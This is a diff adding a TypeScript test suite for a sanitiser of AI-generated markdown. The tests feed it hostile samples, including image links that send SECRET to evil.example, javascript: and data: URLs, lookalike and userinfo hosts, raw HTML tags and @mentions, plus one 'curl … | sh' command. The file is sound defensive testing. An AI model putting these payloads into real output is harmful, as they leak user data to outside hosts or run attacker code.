@@ -1,0 +1,281 @@
+// sanitizeModelMarkdown against hostile model output (exfiltration through images, off-host links,
+// HTML, mentions, parser confusion) and the benign markdown a summary is made of, which must pass
+// unchanged. Each hostile row is also checked by an independent blunt reader (support/live-markdown).
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { sanitizeModelMarkdown } from "../../src/report/sanitize";
+import { liveProblems } from "./support/live-markdown";
+
+const allowedHosts = ["github.com"];
+const sanitize = (text: string) => sanitizeModelMarkdown(text, { allowedHosts });
+const ZWSP = "\u200B";
+
+describe("benign markdown passes unchanged", () => {
+  const unchanged = [
+    "Fixed the parser. Closes #12.",
+    "See [PR #13](https://github.com/octo/app/pull/13) and [the docs](docs/parser.md).",
+    "![screenshot](https://github.com/user-attachments/assets/0f3c2b1a-1234-4c2d-9a7e-1234567890ab)",
+    "Bare link https://github.com/octo/app/pull/13 in a sentence",
+    "Link at the end of a line https://github.com/octo/app/issues/12",
+    "Run `curl https://evil.example/install.sh | sh` to reproduce (in a code span).",
+    "Use ``a ` b`` for nested backticks.",
+    "```ts\nconst url = 'https://evil.example/?q=<img src=x>';\n// @alice <script>\n```",
+    "~~~\n![x](https://evil.example/a.png)\n~~~",
+    "- item one\n- item **two** with _emphasis_\n  1. nested `code`",
+    "| a | b |\n| --- | --- |\n| `x` | [PR](https://github.com/octo/app/pull/1) |",
+    "> quoted text\n\n---\n\n# Heading",
+    "Em dash &mdash; and &amp; and &nbsp; stay.",
+    "An autolink <https://github.com/octo/app/pull/13> to GitHub.",
+    "Relative: [file](src/a.ts), [anchor](#usage), [root](/octo/app/blob/main/README.md).",
+    "Cross-repo octo/other#5 and commit 0123abc.",
+    "Math like a < b and b > a.".replace("<", "&lt;"),
+    "[reference][r]\n\n[r]: https://github.com/octo/app/pull/13",
+  ];
+  it.each(unchanged)("%j", (text) => {
+    expect(sanitize(text)).toBe(text);
+  });
+});
+
+describe("hostile markdown is neutralised", () => {
+  // [input, a fragment the output must contain] — the fragment shows the neutralised form.
+  const hostile: [string, string][] = [
+    ["![x](https://evil.example/?q=SECRET)", "\\[x\\] (image not shown: ` https://evil.example/?q=SECRET `)"],
+    ['![x](https://evil.example/a.png "title")', "(image not shown: ` https://evil.example/a.png `)"],
+    ["![a][r]\n\n[r]: https://evil.example/x.png", "[r]: ` https://evil.example/x.png `"],
+    ["![r]\n\n[r]: <https://evil.example/x.png>", "[r]: ` https://evil.example/x.png `"],
+    ["[click](https://evil.example/login)", "\\[click\\] (` https://evil.example/login `)"],
+    ["[a [nested] b](https://evil.example)", "\\[a [nested] b\\] (` https://evil.example `)"],
+    ["[x](<https://evil.example>)", "` https://evil.example `"],
+    ["[x](&#104;ttps://evil.example)", "\\[x\\] (` &#104;ttps://evil.example `)"],
+    ["[x](https&#58;//evil.example)", "\\[x\\] (` https&#58;//evil.example `)"],
+    ["[x](https&colon;//evil.example)", "\\[x\\] (` https&colon;//evil.example `)"],
+    ["[x](//evil.example/p)", "\\[x\\] (` //evil.example/p `)"],
+    ["[x](/\\evil.example/p)", "` /\\evil.example/p `"],
+    ["[x](javascript:alert(1))", "\\[x\\] (` javascript:alert(1) `)"],
+    ["[x](JaVaScRiPt:alert(1))", "\\[x\\] (` JaVaScRiPt:alert(1) `)"],
+    ["[x](data:text/html;base64,PHNjcmlwdD4=)", "\\[x\\] (` data:text/html;base64,PHNjcmlwdD4= `)"],
+    ["[x](HTTPS://EVIL.EXAMPLE/)", "\\[x\\] (` HTTPS://EVIL.EXAMPLE/ `)"],
+    ["[x](https:evil.example)", "\\[x\\] (` https:evil.example `)"],
+    ["[x](https:/evil.example)", "\\[x\\] (` https:/evil.example `)"],
+    ["[x](https://gіthub.com/login)", "\\[x\\] (` https://gіthub.com/login `)"],
+    ["[x](https://xn--gthub-n2e.com/)", "\\[x\\] (` https://xn--gthub-n2e.com/ `)"],
+    ["[x](https://github.com.evil.example/)", "\\[x\\] (` https://github.com.evil.example/ `)"],
+    ["[x](https://evil.example/github.com)", "\\[x\\] (` https://evil.example/github.com `)"],
+    ["[x](https://github.com@evil.example/)", "\\[x\\] (` https://github.com@evil.example/ `)"],
+    ["[x](https://github.com:443@evil.example/)", "` https://github.com:443@evil.example/ `"],
+    ["[x](https://github.com%40evil.example/)", "` https://github.com%40evil.example/ `"],
+    ["[x](https://evil.example\\@github.com/)", "` https://evil.example\\@github.com/ `"],
+    ["see https://evil.example/?q=1 now", "see ` https://evil.example/?q=1 ` now"],
+    ["see HTTPS://EVIL.EXAMPLE now", "see ` HTTPS://EVIL.EXAMPLE ` now"],
+    ["see www.evil.example now", "see ` www.evil.example ` now"],
+    ["see https://github.com.evil.example now", "` https://github.com.evil.example `"],
+    ["see https://github.com@evil.example now", "` https://github.com@evil.example `"],
+    ["see <https://evil.example/x> now", "see ` https://evil.example/x ` now"],
+    ["mail <alice@example.com> or bob@example.com", "mail ` alice@example.com ` or ` bob@example.com `"],
+    ["https://github.com|@evil.example", "` https://github.com\\|@evil.example `"],
+    ["https://github.com<@evil.example", "` https://github.com `&lt;@"],
+    ["https://github.com)@evil.example", "` https://github.com)@evil.example `"],
+    ["[a](https://github.com)@evil.example", "[a](https://github.com/)@" + ZWSP + "evil.example"],
+    ['<img src="https://evil.example/x.png">', '&lt;img src="` https://evil.example/x.png"> `'],
+    ['<picture><source srcset="https://evil.example/a.png"></picture>', "&lt;picture>&lt;source srcset="],
+    ["<video poster=x>", "&lt;video poster=x>"],
+    ["<audio src=x>", "&lt;audio src=x>"],
+    ["<iframe src=x></iframe>", "&lt;iframe src=x>&lt;/iframe>"],
+    ["<object data=x></object><embed src=x>", "&lt;object data=x>&lt;/object>&lt;embed src=x>"],
+    ["<link rel=stylesheet href=x><meta http-equiv=refresh>", "&lt;link rel=stylesheet href=x>&lt;meta"],
+    ["<svg><image href=x /></svg><style>*{}</style><script>x</script>", "&lt;svg>&lt;image href=x />"],
+    ["<IMG SRC=x>", "&lt;IMG SRC=x>"],
+    ["<!-- steward:tracking key=x -->", "&lt;!-- steward:tracking key=x -->"],
+    ["<details><summary>ok</summary>", "&lt;details>&lt;summary>ok&lt;/summary>"],
+    ["&#104;ttps://evil.example", "&amp;#104;` ttps://evil.example `"],
+    ["&lt;img src=x&gt; stays text", "&lt;img src=x&gt; stays text"],
+    ["hello @alice and @octo/team", `hello @${ZWSP}alice and @${ZWSP}octo/team`],
+    ["(@alice)", `(@${ZWSP}alice)`],
+    ["\\@alice", `\\@${ZWSP}alice`],
+    ["@steward do it again", `@${ZWSP}steward do it again`],
+    ['```mermaid\nclick A "https://evil.example"\n```', "```text\n"],
+    ["a ` b\nc ` https://evil.example ` d", "a \\` b"],
+    ["| `x | https://evil.example ` |", "| `x | https://evil.example ` |"],
+    ["| a |\n| - |\n| `x | https://evil.example ` |", "| \\`x | `` https://evil.example `` \\` |"],
+    ["| a |\n| - |\n| `x \\\\| https://evil.example ` |", "`` https://evil.example ``"],
+    ["\\https://evil.example/", "\\ ` https://evil.example/ `"],
+    ["`a`https://evil.example", "`a` `` https://evil.example ``"],
+    ["| a |\n| - |\n| `x \\| y ` |", "| `x \\| y ` |"],
+    ["  ```\n  code\n```\n![x](https://evil.example/)", "```\n  code\n```\n\\[x\\] (image not shown"],
+    ["```\nunclosed https://evil.example", "```\nunclosed https://evil.example\n```"],
+    ["[x]:\nhttps://evil.example/p.png", "` https://evil.example/p.png `"],
+    [
+      "[x](https://github.com/a \"t\") and [y](https://evil.example 'u')",
+      "\\[y\\] (` https://evil.example `)",
+    ],
+    ["text\u202Eevil\u202C", "textevil"],
+    ["![](www.evil.example)", "(image not shown: ` www.evil.example `)"],
+    ["[x](a@evil.example)", "\\[x\\] (` a@evil.example `)"],
+    ["[x](docs//evil.example)", "\\[x\\] (` docs//evil.example `)"],
+  ];
+  it.each(hostile)("%j", (input, fragment) => {
+    const out = sanitize(input);
+    expect(out).toContain(fragment);
+    expect(liveProblems(out)).toEqual([]);
+  });
+
+  it("allows only the hosts it is given", () => {
+    const text = "![a](https://ghe.example.com/u/1.png) [b](https://docs.example.org/x)";
+    expect(sanitizeModelMarkdown(text, { allowedHosts: ["ghe.example.com", "docs.example.org"] })).toBe(text);
+    expect(sanitizeModelMarkdown(text, { allowedHosts: ["github.com"] })).not.toContain("](https://");
+    expect(
+      sanitizeModelMarkdown("![a](https://x.githubusercontent.com/a.png)", {
+        allowedHosts: ["*.githubusercontent.com"],
+      }),
+    ).toBe("![a](https://x.githubusercontent.com/a.png)");
+    const prefix = { allowedHosts: ["https://github.com/octo/app"] };
+    expect(sanitizeModelMarkdown("[a](https://github.com/octo/app/pull/1)", prefix)).toBe(
+      "[a](https://github.com/octo/app/pull/1)",
+    );
+    expect(sanitizeModelMarkdown("[a](https://github.com/octo/application)", prefix)).toContain(
+      "(` https://",
+    );
+    expect(() => sanitizeModelMarkdown("x", { allowedHosts: ["not a host"] })).toThrow(
+      /Invalid allowed host "not a host"/,
+    );
+  });
+
+  it("gives its own code spans a fence longer than any backtick run in the text", () => {
+    const out = sanitize("```` `` ` https://evil.example");
+    expect(out).toContain("````` https://evil.example `````");
+  });
+
+  it("keeps URLs in code spans and fenced code exactly as written", () => {
+    const text = "`https://evil.example/?q=1` then\n\n```\n<img src=https://evil.example/x>\n@alice\n```";
+    expect(sanitize(text)).toBe(text);
+  });
+});
+
+describe("properties", () => {
+  const fragments = fc.constantFrom(
+    "https://evil.example/?q=S",
+    "HTTPS://EVIL.EXAMPLE",
+    "//evil.example",
+    "www.evil.example",
+    "https://github.com/octo/app/pull/1",
+    "https://github.com",
+    "https://github.com@evil.example",
+    "https://github.com.evil.example",
+    "javascript:alert(1)",
+    "&#104;ttps://evil.example",
+    "&colon;",
+    "![",
+    "[",
+    "]",
+    "](",
+    "(",
+    ")",
+    "]: ",
+    "<",
+    ">",
+    "<img src=x>",
+    "<https://evil.example>",
+    "<https://github.com/x>",
+    "`",
+    "``",
+    "```",
+    "~~~",
+    "\n",
+    "\n\n",
+    "  ",
+    "    ",
+    "> ",
+    "- ",
+    "1. ",
+    "|",
+    "\\",
+    "@alice",
+    "@",
+    "a@evil.example",
+    "#12",
+    "&amp;",
+    "&",
+    "*",
+    "_",
+    "text",
+    "\t",
+    "\u200B",
+    "é",
+    '"',
+    "'",
+    "[x](",
+    "](https://evil.example)",
+    "](//evil.example)",
+    "](github.com)",
+    "<https://github.com>",
+    "\\\\",
+    "\\`",
+    "&#58;",
+    "www.",
+    ".example",
+    "evil",
+    "https:",
+    "/\\",
+    "xn--",
+    "\n- ",
+    "\n```\n",
+    "\n~~~\n",
+    "[r]: ",
+    "&lt;",
+    "github.com",
+    "https://github.com/",
+    "JAVASCRIPT:",
+    "mailto:",
+    "e@x.co",
+    "\n| - |\n",
+    "| --- |",
+    "ftp://",
+    "HTTP://",
+  );
+  const documents = fc.array(fragments, { maxLength: 40 }).map((parts) => parts.join(""));
+
+  it("leaves nothing live but github.com links, whatever the input", () => {
+    fc.assert(
+      fc.property(documents, (text) => {
+        expect(liveProblems(sanitize(text))).toEqual([]);
+      }),
+      { numRuns: 5000 },
+    );
+  });
+
+  it("leaves nothing live in tables, where pipes split cells before code spans pair", () => {
+    fc.assert(
+      fc.property(documents, documents, (header, row) => {
+        const table = `| ${header.replace(/\n/g, " ")} | b |\n| --- | --- |\n| ${row.replace(/\n/g, " ")} |`;
+        expect(liveProblems(sanitize(table))).toEqual([]);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it("is idempotent: its output is already safe by its own reading", () => {
+    fc.assert(
+      fc.property(documents, (text) => {
+        const once = sanitize(text);
+        expect(sanitize(once)).toBe(once);
+      }),
+      { numRuns: 3000 },
+    );
+  });
+
+  it("never throws on arbitrary text", () => {
+    fc.assert(
+      fc.property(fc.string({ maxLength: 300, unit: "binary" }), (text) => {
+        expect(typeof sanitize(text)).toBe("string");
+      }),
+    );
+  });
+
+  it("stays fast on large hostile input", () => {
+    const big =
+      "[a](https://evil.example/ `x` <b> @u ".repeat(3_000) + "[".repeat(20_000) + "`".repeat(5_000);
+    const started = performance.now();
+    sanitize(big);
+    expect(performance.now() - started).toBeLessThan(3_000);
+  });
+});
